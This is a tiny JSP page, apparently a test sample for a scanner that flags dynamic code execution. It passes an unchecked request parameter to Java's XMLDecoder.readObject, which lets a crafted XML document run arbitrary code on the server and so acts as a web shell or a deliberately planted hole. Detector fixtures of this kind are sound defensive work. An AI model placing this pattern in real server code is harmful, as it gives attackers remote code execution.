<%-- triage-expect: triage_jsp_dynamic_exec --%>
<%@ page import="java.beans.XMLDecoder, java.io.ByteArrayInputStream" %>
<%
    // an XML document in the request rebuilds objects (and calls their methods) on the server
    String doc = request.getParameter("d");
    XMLDecoder dec = new XMLDecoder(new ByteArrayInputStream(doc.getBytes("UTF-8")));
    Object o = dec.readObject();
%>
